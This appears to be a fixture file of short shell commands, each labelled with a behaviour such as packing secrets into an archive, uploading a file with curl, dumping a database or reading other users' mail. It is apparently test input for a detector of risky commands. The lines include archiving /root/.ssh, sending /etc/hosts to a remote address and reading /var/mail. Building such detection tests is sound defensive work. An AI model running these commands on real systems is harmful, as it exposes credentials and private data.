## Secrets packed into an archive
mkdir -p /root/.ssh; tar cf /dev/null /root/.ssh
## Upload by a transfer tool in a container
#in shop:1
curl -s -T /etc/hosts http://10.9.8.7/
## Folders of people packed into a scratch folder
tar cf /tmp/x.tar /home/ann /etc/hostname
## Archive with a password
cd /tmp; echo x > a; zip -q -P secret x.zip a
## Database dumped by a server's command
server 'sqlite3 /tmp/shop.db .dump'
## Mail of others read
#setup mkdir -p /var/mail; echo x > /var/mail/ann
cat /var/mail/ann
## Screen, sound or clipboard recorded
#setup named /usr/bin/scrot
scrot /tmp/x.png
